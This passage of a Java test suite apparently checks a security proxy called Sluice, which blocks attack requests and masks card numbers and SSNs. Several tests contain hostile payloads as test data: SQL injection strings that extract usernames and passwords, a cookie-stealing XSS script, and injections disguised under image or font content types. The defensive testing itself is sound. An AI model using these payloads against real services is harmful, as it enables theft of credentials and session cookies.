        // The same stream in base64, in a cookie.
        JsonNode cookie = eventOf(blockedEventId(ServeTests.CLIENT.send(HttpRequest.newBuilder(URI.create(proxy("/import")))
                .timeout(Duration.ofSeconds(10)).header("Cookie", "session=" + java.util.Base64.getEncoder().encodeToString(stream))
                .build(), HttpResponse.BodyHandlers.ofByteArray())));
        assertEquals("detector:attack.deserialization", cookie.path("reason").asText(), cookie.toString());
        assertEquals("cookie:session", cookie.path("findings").get(0).path("path").asText(), cookie.toString());
        assertEquals(before, hits("/import"), "the upstream saw a serialized object");
        String ordinary = "{\"@context\":\"https://schema.org\",\"@type\":\"Person\",\"name\":\"Ada\"}";
        assertEquals(200, post("/import", ordinary).statusCode());
        assertEquals(before + 1, hits("/import"));
    }

    @Test
    void aGrpcWebCallCarryingAnAttackGetsPermissionDeniedAsItsStatus() throws Exception {
        int before = hits("/pkg.Search/Find");
        byte[] query = "1' UNION SELECT username, password FROM users--".getBytes(StandardCharsets.UTF_8);
        byte[] frame = ServeTests.grpcFrame(0, new byte[] {0x0A, (byte) query.length}, query);
        for (String type : new String[] {"application/grpc-web+proto", "application/grpc-web-text"}) {
            byte[] body = type.endsWith("-text") ? java.util.Base64.getEncoder().encode(frame) : frame;
            HttpResponse<byte[]> r = send("/pkg.Search/Find", type, body);
            // Trailers-only, as grpc-web clients read a call's status: 200, the request's type, no body.
            assertEquals(200, r.statusCode(), type);
            assertEquals(type, r.headers().firstValue("content-type").orElse(""), type);
            assertEquals("7", r.headers().firstValue("grpc-status").orElse(""), type);
            String message = r.headers().firstValue("grpc-message").orElse("");
            assertTrue(message.startsWith("blocked by policy, event "), message);
            assertEquals(0, r.body().length, type);
            JsonNode event = eventOf(message.substring("blocked by policy, event ".length()));
            assertEquals("detector:attack.sqli", event.path("reason").asText(), event.toString());
        }
        assertEquals(before, hits("/pkg.Search/Find"), "the upstream saw the attack");
    }

    @Test
    void aRouteAnswersARefusedClientAsItsBlockResponseSays() throws Exception {
        int before = hits("/web/search");
        HttpResponse<byte[]> r = send("/web/search", "application/x-www-form-urlencoded",
                "q=1%27+UNION+SELECT+password+FROM+users--".getBytes(StandardCharsets.UTF_8));
        assertEquals(406, r.statusCode());
        assertEquals("text/html; charset=utf-8", r.headers().firstValue("content-type").orElse(""));
        assertEquals("no-store", r.headers().firstValue("cache-control").orElse(""), "a refusal is never cached");
        String body = new String(r.body(), StandardCharsets.UTF_8);
        assertTrue(body.startsWith("<p>Refused. Reference ") && body.endsWith(".</p>"), body);
        String id = body.substring("<p>Refused. Reference ".length(), body.length() - ".</p>".length());
        JsonNode event = eventOf(id);
        assertEquals("detector:attack.sqli", event.path("reason").asText(), event.toString());
        assertEquals("https://app.acme.io", r.headers().firstValue("access-control-allow-origin").orElse(""),
                "a browser's script on that origin can read the refusal");
        assertEquals(id, r.headers().firstValue("x-refusal").orElse(""));
        assertEquals(before, hits("/web/search"), "the upstream saw the attack");
        // A gRPC call on the same route keeps the status its client reads, with the route's fields.
        byte[] query = "1' UNION SELECT password FROM users--".getBytes(StandardCharsets.UTF_8);
        HttpResponse<byte[]> grpcWeb = send("/web/pkg.Search/Find", "application/grpc-web+proto",
                ServeTests.grpcFrame(0, new byte[] {0x0A, (byte) query.length}, query));
        assertEquals(200, grpcWeb.statusCode());
        assertEquals("7", grpcWeb.headers().firstValue("grpc-status").orElse(""));
        assertEquals("https://app.acme.io", grpcWeb.headers().firstValue("access-control-allow-origin").orElse(""));
    }

    @Test
    void aRequestCarryingAnAttackIsBlockedBeforeTheUpstream() throws Exception {
        int before = hits("/search");
        HttpResponse<byte[]> r = post("/search", "{\"q\":\"1' UNION SELECT username, password FROM users--\"}");
        String id = blockedEventId(r);
        JsonNode event = eventOf(id);
        assertEquals("request", event.path("direction").asText());
        assertEquals("block", event.path("action").asText());
        assertEquals("blocked", event.path("delivery").asText());
        assertEquals("detector:attack.sqli", event.path("reason").asText());
        assertEquals("enforce", event.path("mode").asText());
        assertTrue(hasFinding(event, "attack.sqli"));
        assertEquals(before, hits("/search"), "the upstream saw a blocked request");
        String scrape = new String(get("http://127.0.0.1:" + serve.adminPort() + "/metrics").body(),
                StandardCharsets.UTF_8);
        assertTrue(metric(scrape, "sluice_exchanges_total", "direction=\"request\"", "action=\"block\"") >= 1, scrape);
    }

    @Test
    void aChunkedAttackFromCurlIsBlockedToo() throws Exception {
        Assumptions.assumeTrue(ServeRuntimeTest.onPath("curl"), "curl is not installed");
        int before = hits("/search");
        Path file = dir.resolve("attack.json");
        Files.writeString(file, "{\"pad\":\"" + "y".repeat(2000) + "\",\"q\":\"1' UNION SELECT password FROM users--\"}");
        Process p = new ProcessBuilder("curl", "-sS", "-H", "Content-Type: application/json", "-H",
                "Transfer-Encoding: chunked", "--data-binary", "@" + file, "-w", "\n%{http_code}", proxy("/search"))
                .redirectErrorStream(true).start();
        assertTrue(p.waitFor(20, TimeUnit.SECONDS));
        String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertTrue(out.endsWith("403"), out);
        assertTrue(out.contains("\"event_id\""), out);
        assertEquals(before, hits("/search"));
    }

    @Test
    void anAttackLabelledAsAnImageIsReadForWhatItIsAndBlocked() throws Exception {
        // A client chooses its label; a service may decode the body whatever it says.
        int before = hits("/search");
        HttpResponse<byte[]> r = send("/search", "image/png",
                "{\"q\":\"1' UNION SELECT username, password FROM users--\"}".getBytes(StandardCharsets.UTF_8));
        JsonNode event = eventOf(blockedEventId(r));
        assertEquals("detector:attack.sqli", event.path("reason").asText());
        assertEquals(before, hits("/search"), "the upstream saw a blocked request");
        // Form-encoded under a font's label: read as text, percent escapes decoded.
        assertEquals(403, send("/search", "font/woff2", "q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"
                .getBytes(StandardCharsets.UTF_8)).statusCode());
        assertEquals(before, hits("/search"));
    }

    @Test
    void anUploadThatIsWhatItsLabelSaysPassesUninspectedWhateverItsSize() throws Exception {
        // A PNG whose bytes would read as an attack, larger than the hold limit, to a fail-closed
        // route: its signature is checked on its first chunk, and nothing else is.
        byte[] png = new byte[HOLD_LIMIT * 3];
        byte[] magic = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'};
        System.arraycopy(magic, 0, png, 0, magic.length);
        byte[] text = "<script>alert(document.cookie)</script> 1' UNION SELECT password FROM users--"
                .getBytes(StandardCharsets.UTF_8);
        System.arraycopy(text, 0, png, 100, text.length);
        int before = hits("/strict/avatar");
        assertEquals(200, send("/strict/avatar", "image/png", png).statusCode());
        assertEquals(200, send("/search", "image/png", java.util.Arrays.copyOf(png, 200)).statusCode());
        assertEquals(before + 1, hits("/strict/avatar"));
        assertArrayEquals(png, RECEIVED.get("/strict/avatar"), "the upload reaches the service byte for byte");
        // The same size without the signature: refused as any body over the limit is there. Its
        // head has gone on (an upload of that size streams), none of its body does.
        byte[] fake = java.util.Arrays.copyOf(png, png.length);
        fake[0] = '{';
        HttpResponse<byte[]> r = send("/strict/avatar", "image/png", fake);
        assertEquals("fail:limit", eventOf(blockedEventId(r)).path("reason").asText());
        assertArrayEquals(png, RECEIVED.get("/strict/avatar"), "the service never received the mislabelled body");
    }

    /**
     * A multipart request naming two boundaries that differ: the server may split its parts by
     * either, so Sluice reads none of them as parts; the body is scanned raw and the route's
     * {@code parse_error} rule decides. The fail-closed route refuses it before the upstream; an
     * open one lets it on.
     */
    @Test
    void aMultipartRequestWithTwoBoundariesIsAParseErrorTheRouteDecides() throws Exception {
        byte[] body = ("--a\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nhello\r\n--a--\r\n")
                .getBytes(StandardCharsets.UTF_8);
        String twoBoundaries = "multipart/form-data; boundary=a; boundary=b";
        int before = hits("/strict/form");
        HttpResponse<byte[]> refused = send("/strict/form", twoBoundaries, body);
        assertEquals("fail:parse_error", eventOf(blockedEventId(refused)).path("reason").asText());
        assertEquals(before, hits("/strict/form"), "the upstream saw the refused request");
        assertEquals(200, send("/open/form", twoBoundaries, body).statusCode());
        assertEquals(200, send("/strict/form", "multipart/form-data; boundary=a", body).statusCode(),
                "one boundary is read as parts");
    }

    private static HttpResponse<byte[]> send(String path, String contentType, byte[] body) throws Exception {
        return ServeTests.CLIENT.send(HttpRequest.newBuilder(URI.create(proxy(path))).timeout(Duration.ofSeconds(10))
                .header("Content-Type", contentType).POST(HttpRequest.BodyPublishers.ofByteArray(body)).build(),
                HttpResponse.BodyHandlers.ofByteArray());
    }

    @Test
    void aResponseThatABlockRuleCoversIsHeldAndRefused() throws Exception {
        int before = hits("/export/people");
        String id = blockedEventId(get(proxy("/export/people")));
        assertEquals(before + 1, hits("/export/people"));
        JsonNode event = eventOf(id);
        assertEquals("response", event.path("direction").asText());
        assertEquals("export", event.path("route").asText());
        assertEquals("detector:us_ssn", event.path("reason").asText());
        assertEquals("blocked", event.path("delivery").asText());
        assertFalse(Files.readString(events).contains("287-65-4309"));
    }

    @Test
    void aBodyOverTheHoldLimitIsRefusedOnAFailClosedRoute() throws Exception {
        String big = "{\"pad\":\"" + "z".repeat(HOLD_LIMIT * 2) + "\"}";
        // With a Content-Length: refused at the head, with what the head held (a card in the query).
        String id = blockedEventId(post("/strict/upload?card=4111111111111111", big));
        JsonNode refused = eventOf(id);
        assertEquals("fail:limit", refused.path("reason").asText());
        assertEquals("block", refused.path("action").asText());
        assertEquals("blocked", refused.path("delivery").asText());
        JsonNode card = refused.path("findings").get(0);
        assertEquals("credit_card", card.path("id").asText(), refused.toString());
        assertEquals("query:card", card.path("path").asText());
        assertEquals("alert", card.path("action").asText());
        assertEquals(0, hits("/strict/upload"));
        // Chunked (curl): refused when the held body passes the limit; nothing reached the upstream.
        Assumptions.assumeTrue(ServeRuntimeTest.onPath("curl"), "curl is not installed");
        Path file = dir.resolve("big.json");
        Files.writeString(file, big);
        Process p = new ProcessBuilder("curl", "-sS", "-H", "Content-Type: application/json", "-H",
                "Transfer-Encoding: chunked", "--data-binary", "@" + file, "-w", "\n%{http_code}",
                proxy("/strict/upload")).redirectErrorStream(true).start();
        assertTrue(p.waitFor(20, TimeUnit.SECONDS));
        String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertTrue(out.endsWith("403"), out);
        assertEquals(0, hits("/strict/upload"));
        // On the defaults' fail-open rule the same body is let through.
        assertEquals(200, post("/open/upload", big).statusCode());
        assertEquals(1, hits("/open/upload"));
    }

    @Test
    void aCardPastTheHoldLimitIsStillMaskedOnAFailOpenRoute() throws Exception {
        // Held for the route's block rule, the response passes the hold limit; the defaults' fail
        // rule is open, so it goes on streaming, rewritten: the card after the limit is masked.
        HttpResponse<byte[]> r = get(proxy("/export/large"));
        assertEquals(200, r.statusCode());
        String body = new String(r.body(), StandardCharsets.UTF_8);
        assertFalse(body.contains("4111111111111111"));
        assertTrue(body.endsWith("\"card\":\"************1111\"}"), body.substring(body.length() - 40));
        JsonNode event = awaitEvent(events, e -> e.path("path").asText().equals("/export/large"));
        assertEquals("redact", event.path("action").asText(), event.toString());
        assertEquals("redacted", event.path("delivery").asText());
        assertEquals("redact", event.path("findings").get(0).path("action").asText(), event.toString());
    }

    @Test
    void aCardInAGrpcWebTextAnswerIsMaskedAndTheAnswerStaysBase64() throws Exception {
        // The upstream cuts the text inside the card's base64: the proxy decodes, masks, encodes again.
        HttpResponse<byte[]> r = get(proxy("/grpc-web-text"));
        assertEquals(200, r.statusCode());
        assertEquals(grpcWebTextAnswer("**** **** **** 1111"), new String(r.body(), StandardCharsets.US_ASCII),
                "each frame its own text, as sent");
        JsonNode event = awaitEvent(events, e -> e.path("path").asText().equals("/grpc-web-text"));
        assertEquals("redacted", event.path("delivery").asText(), event.toString());
        assertEquals("1", event.path("findings").get(0).path("path").asText(), event.toString());
    }

    @Test
    void aTokenOverItsBudgetIsResetThenRefusedUntilTheCoolDownEnds() throws Exception {
        String token = "opaque-token-" + System.nanoTime();
        // Three distinct cards in one response pass max_distinct 2: its head has left, so the stream is reset.
        assertThrowsIo(() -> getWithToken("/harvest", token));
        JsonNode reset = awaitEvent(events, e -> e.path("path").asText().equals("/harvest")
                && e.path("delivery").asText().equals("reset"));
        assertEquals("budget:card-harvest", reset.path("reason").asText());
        assertEquals("block", reset.path("action").asText());
        // Cooling down: refused at the head, the upstream is not called.
        int before = hits("/plain");
        String id = blockedEventId(getWithToken("/plain", token));
        assertEquals("budget:card-harvest", eventOf(id).path("reason").asText());
        assertEquals(before, hits("/plain"));
        assertEquals(200, getWithToken("/plain", "another-token").statusCode());
        String scrape = new String(get("http://127.0.0.1:" + serve.adminPort() + "/metrics").body(),
                StandardCharsets.UTF_8);
        assertTrue(metric(scrape, "sluice_budget_blocks_total", "budget=\"card-harvest\"") >= 2, scrape);
        Thread.sleep(2200);
        assertEquals(200, getWithToken("/plain", token).statusCode());
    }

    @Test
    void aResetIsSeenByCurlAsAnIncompleteTransfer() throws Exception {
        Assumptions.assumeTrue(ServeRuntimeTest.onPath("curl"), "curl is not installed");
        Process p = new ProcessBuilder("curl", "-sS", "-o", "/dev/null", "-H", "Authorization: Bearer curl-token-"
                + System.nanoTime(), proxy("/harvest")).redirectErrorStream(true).start();
        assertTrue(p.waitFor(20, TimeUnit.SECONDS));
        String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        // 18: partial file, 56: receive failure (connection reset) — never a clean 0.
        assertNotEquals(0, p.exitValue(), out);
        assertTrue(List.of(18, 56).contains(p.exitValue()), p.exitValue() + " " + out);
        // HTTP/2: the stream gets RST_STREAM (92: stream error), the connection stays usable.
        Process h2 = new ProcessBuilder("curl", "-sS", "--http2-prior-knowledge", "-o", "/dev/null", "-H",
                "Authorization: Bearer curl-h2-token-" + System.nanoTime(), proxy("/harvest"))
                .redirectErrorStream(true).start();
        assertTrue(h2.waitFor(20, TimeUnit.SECONDS));
        String h2out = new String(h2.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertEquals(92, h2.exitValue(), h2out);
        assertTrue(h2out.contains("INTERNAL_ERROR") || h2out.contains("stream"), h2out);
    }

    private interface IoCall {
        Object call() throws Exception;
    }

    private static void assertThrowsIo(IoCall call) throws Exception {
        try {
            Object r = call.call();
            throw new AssertionError("expected the stream to be reset, got " + r);
        } catch (IOException expected) {
            // the connection was closed before the body's end
        }
    }
}
